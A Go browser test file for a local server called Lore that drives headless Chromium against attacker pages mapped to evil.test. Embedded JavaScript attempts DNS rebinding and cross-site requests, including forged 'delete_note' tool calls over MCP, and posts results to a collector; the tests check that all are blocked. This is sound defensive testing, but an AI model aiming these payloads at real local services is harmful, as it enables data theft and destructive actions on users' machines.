//go:build browser

package attacks

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"
)

// A browser is a real Chromium that finds evil.test on this machine.
type browser struct {
	*testing.T
	devtools string
}

func newBrowser(t *testing.T) *browser {
	t.Helper()
	path, err := exec.LookPath("chromium")
	if err != nil {
		t.Fatal("no Chromium: ", err)
	}
	// Its helpers outlive it for a moment and still write: the folder is not the
	// test's own, which must be empty at once.
	dir, err := os.MkdirTemp("", "lore-browser-")
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithCancel(context.WithoutCancel(t.Context()))
	cmd := exec.CommandContext(ctx, path, "--headless=new", "--no-first-run", "--disable-gpu", "--disable-quic", "--disable-dev-shm-usage",
		"--disable-background-networking", "--disable-component-update", "--disable-sync", "--disable-extensions", "--no-default-browser-check",
		"--host-resolver-rules=MAP evil.test 127.0.0.1", "--user-data-dir="+dir, "--remote-debugging-port=0", "about:blank")
	if os.Getuid() == 0 {
		cmd.Args = append(cmd.Args[:1], append([]string{"--no-sandbox"}, cmd.Args[1:]...)...)
	}
	cmd.SysProcAttr = &syscall.SysProcAttr{Setpgid: true}
	cmd.Cancel = func() error { return syscall.Kill(-cmd.Process.Pid, syscall.SIGKILL) }
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		cancel()
		_ = cmd.Wait() // it was killed
		for range 100 {
			if err = os.RemoveAll(dir); err == nil {
				return
			}
			time.Sleep(50 * time.Millisecond)
		}
		t.Log("left behind: ", err)
	})
	for range 1200 {
		// The browser writes here where it can be told what to open.
		b, _ := os.ReadFile(filepath.Join(dir, "DevToolsActivePort"))
		if port, _, whole := strings.Cut(string(b), "\n"); whole {
			return &browser{t, "http://127.0.0.1:" + port}
		}
		time.Sleep(50 * time.Millisecond)
	}
	t.Fatal("Chromium does not start")
	return nil
}

// open shows an address in a new tab, as if a person had typed it.
func (b *browser) open(address string) {
	b.Helper()
	req, err := http.NewRequestWithContext(b.Context(), http.MethodPut, b.devtools+"/json/new?"+url.QueryEscape(address), http.NoBody)
	if err != nil {
		b.Fatal(err)
	}
	res, err := http.DefaultClient.Do(req)
	if err != nil {
		b.Fatal(err)
	}
	defer res.Body.Close()
	if res.StatusCode != http.StatusOK {
		b.Fatal(res.Status)
	}
}

// An attacker serves a page and hears what it found out.
type attacker struct {
	*testing.T
	page    string
	reports chan string
	server  *http.Server
	addr    string
}

func newAttacker(t *testing.T, page string) *attacker {
	t.Helper()
	a := &attacker{T: t, page: page, reports: make(chan string, 100)}
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	a.addr = l.Addr().String()
	a.server = &http.Server{Handler: a}
	go func() { _ = a.server.Serve(l) }()
	t.Cleanup(func() { _ = a.server.Close() })
	return a
}

func (a *attacker) port() string { return a.addr[strings.LastIndex(a.addr, ":")+1:] }

func (a *attacker) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	w.Header().Set("Access-Control-Allow-Origin", "*")
	switch r.URL.Path {
	case "/report":
		b, _ := io.ReadAll(r.Body)
		a.reports <- string(b)
	case "/":
		w.Header().Set("Content-Type", "text/html")
		_, _ = io.WriteString(w, a.page)
	default:
		w.WriteHeader(http.StatusNotFound)
	}
}

// hear waits for what the page says.
func (a *attacker) hear() string {
	a.Helper()
	select {
	case r := <-a.reports:
		return r
	case <-time.After(time.Minute):
		a.Fatal("the page says nothing")
		return ""
	}
}

// TestRebinding: D01. A page waits until its name leads to Lore, whose origin it
// then has, and asks for everything.
func TestRebinding(t *testing.T) {
	w := newWorld(t, nil)
	sink := newAttacker(t, "")
	calls, _ := json.Marshal(everywhere)
	site := newAttacker(t, fmt.Sprintf(`<!doctype html><script>
const sink = "http://%s/report", paths = %s;
const say = (x) => fetch(sink, {method: "POST", body: JSON.stringify(x)});
async function ask(path, init) {
  try {
    const r = await fetch(path, init);
    return {path, status: r.status, text: (await r.text()).slice(0, 2000)};
  } catch (e) { return {path, status: 0, text: String(e)}; }
}
(async () => {
  await say("loaded");
  let found = false;
  for (let i = 0; i < 600 && !found; i++) {
    const r = await ask("/api/v1/status");
    found = r.status != 0 && r.status != 404;
    await new Promise((f) => setTimeout(f, 100));
  }
  const out = [];
  for (const p of paths) {
    out.push(await ask(p));
    out.push(await ask(p, {method: "POST", headers: {"content-type": "application/json"}, body: '{"path":"Tea.md"}'}));
    out.push(await ask(p, {method: "POST", headers: {"content-type": "text/plain"}, body: '{"path":"Tea.md"}'}));
  }
  out.push(await new Promise((f) => {
    const e = new EventSource("/api/v1/events");
    e.onopen = () => f({path: "EventSource", status: 200, text: ""});
    e.onerror = () => f({path: "EventSource", status: 421, text: ""});
  }));
  out.push(await new Promise((f) => {
    const s = new WebSocket("ws://" + location.host + "/api/v1/events");
    s.onopen = () => f({path: "WebSocket", status: 200, text: ""});
    s.onerror = () => f({path: "WebSocket", status: 421, text: ""});
  }));
  await say(out);
})();
</script>`, sink.addr, calls))
	before := w.snapshot(true)
	b := newBrowser(t)
	b.open("http://evil.test:" + site.port() + "/")
	if heard := sink.hear(); heard != `"loaded"` {
		t.Fatal(heard)
	}
	if err := site.server.Close(); err != nil {
		t.Fatal(err)
	}
	_ = w.server.Process.Kill()
	_ = w.server.Wait()
	w.serve("--listen", "127.0.0.1:"+site.port())
	var out []struct {
		Path, Text string
		Status     int
	}
	if err := json.Unmarshal([]byte(sink.hear()), &out); err != nil || len(out) < 3*len(everywhere) {
		t.Fatal(len(out), err)
	}
	for _, r := range out {
		if r.Status != http.StatusMisdirectedRequest {
			t.Errorf("%s: %d %.200s", r.Path, r.Status, r.Text)
		}
		if strings.Contains(r.Text, "Green.") || strings.Contains(r.Text, "read_note") {
			t.Errorf("%s told something: %s", r.Path, r.Text)
		}
	}
	w.unchanged(before, true)
	w.nothingAsked()
}

// TestCrossSite: D02, D04, D06, C10. A page of another site does all that a
// browser lets it, while the person is let in to Lore in the next tab.
func TestCrossSite(t *testing.T) {
	w := newWorld(t, nil)
	_ = w.server.Process.Kill() // its address was used up by the test itself
	_ = w.server.Wait()
	w.serveFor(func(login string) {
		sink := newAttacker(t, "")
		site := newAttacker(t, fmt.Sprintf(`<!doctype html><body><script>
const sink = "http://%s/report", lore = "%s", body = '{"path":"Tea.md"}';
const out = [];
const note = (what, x) => out.push(what + ": " + x);
async function ask(what, path, init) {
  try {
    const r = await fetch(lore + path, init);
    note(what, r.type == "opaque" ? "opaque" : r.status + " " + (await r.text()).slice(0, 500));
  } catch (e) { note(what, "blocked"); }
}
(async () => {
  const del = "/api/v1/tools/delete_note";
  for (const credentials of ["include", "omit"]) {
    await ask("simple", del, {method: "POST", mode: "no-cors", credentials, headers: {"content-type": "text/plain"}, body});
    await ask("json", del, {method: "POST", credentials, headers: {"content-type": "application/json"}, body});
    await ask("get", "/api/v1/tools", {credentials});
    await ask("opaque get", "/api/v1/tools", {credentials, mode: "no-cors"});
    await ask("mcp", "/mcp", {method: "POST", mode: "no-cors", credentials, headers: {"content-type": "text/plain"}, body: '{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"delete_note","arguments":{"path":"Tea.md"}}}'});
    await ask("logout", "/logout", {method: "POST", mode: "no-cors", credentials, body: "{}"});
  }
  note("beacon", navigator.sendBeacon(lore + del, new Blob([body], {type: "text/plain"})));
  const img = new Image(); img.src = lore + del + "?path=Tea.md";
  await new Promise((f) => { img.onload = () => { note("img", "loaded"); f(); }; img.onerror = () => { note("img", "error"); f(); }; });
  for (const type of ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data"]) {
    const frame = document.createElement("iframe"); frame.name = "f" + type; document.body.append(frame);
    const form = document.createElement("form"); form.method = "POST"; form.enctype = type; form.action = lore + del; form.target = frame.name;
    const field = document.createElement("input"); field.name = '{"path":"Tea.md","x":"'; field.value = '"}'; form.append(field); document.body.append(form);
    await new Promise((f) => { frame.onload = f; setTimeout(f, 3000); form.submit(); });
  }
  await new Promise((f) => { const e = new EventSource(lore + "/api/v1/events", {withCredentials: true}); e.onopen = () => { note("events", "open"); f(); }; e.onerror = () => { note("events", "blocked"); f(); }; });
  await new Promise((f) => { const s = new WebSocket(lore.replace("http", "ws") + "/api/v1/events"); s.onopen = () => { note("socket", "open"); f(); }; s.onerror = () => { note("socket", "blocked"); f(); }; });
  const script = document.createElement("script"); script.src = lore + "/api/v1/tools";
  await new Promise((f) => { script.onload = () => { note("script", "loaded"); f(); }; script.onerror = () => { note("script", "error"); f(); }; document.body.append(script); });
  const frame = document.createElement("iframe"); frame.src = lore + "/"; document.body.append(frame);
  await new Promise((f) => { frame.onload = f; setTimeout(f, 3000); });
  let inside = "nothing"; try { inside = frame.contentDocument ? frame.contentDocument.body.innerText : "nothing"; } catch (e) { inside = "closed"; }
  note("frame", inside);
  fetch(sink, {method: "POST", body: JSON.stringify(out)});
})();
</script>`, sink.addr, w.base))
		before := w.snapshot(true)
		b := newBrowser(t)
		b.open(login)
		for i := 0; !strings.Contains(w.heard(), "a browser signed in"); i++ {
			if i == 1200 {
				t.Fatal("the person is not let in")
			}
			time.Sleep(50 * time.Millisecond)
		}
		b.open("http://evil.test:" + site.port() + "/")
		var out []string
		if err := json.Unmarshal([]byte(sink.hear()), &out); err != nil || len(out) < 15 {
			t.Fatal(out, err)
		}
		for _, line := range out {
			what, got, _ := strings.Cut(line, ": ")
			switch {
			case what == "beacon", got == "blocked", got == "opaque", got == "error", got == "closed", got == "nothing", got == "":
			default:
				t.Error(line)
			}
		}
		w.unchanged(before, true)
	})
	w.nothingAsked()
}

// serveFor starts a server whose address for a browser is still to be used.
func (w *world) serveFor(f func(login string)) {
	w.Helper()
	cmd := w.command("serve", "--listen", "127.0.0.1:0", "--json")
	out, err := cmd.StdoutPipe()
	if err != nil {
		w.Fatal(err)
	}
	cmd.Stderr = writer(func(b []byte) { w.keep(b) })
	w.mu.Lock()
	w.said.Reset() // the other browser was let in, too
	w.mu.Unlock()
	if err := cmd.Start(); err != nil {
		w.Fatal(err)
	}
	defer func() {
		_ = cmd.Process.Kill()
		_ = cmd.Wait()
	}()
	var where struct{ Address string }
	if err := json.NewDecoder(out).Decode(&where); err != nil {
		w.Fatal(err)
	}
	w.base = where.Address
	f(w.signInLink())
}

// nothingAsked looks whether any request got as far as a question.
func (w *world) nothingAsked() {
	w.Helper()
	if out, _ := w.lore("approvals", "list", "--json"); strings.Contains(out, "pending-") {
		w.Errorf("something was asked: %s", out)
	}
}
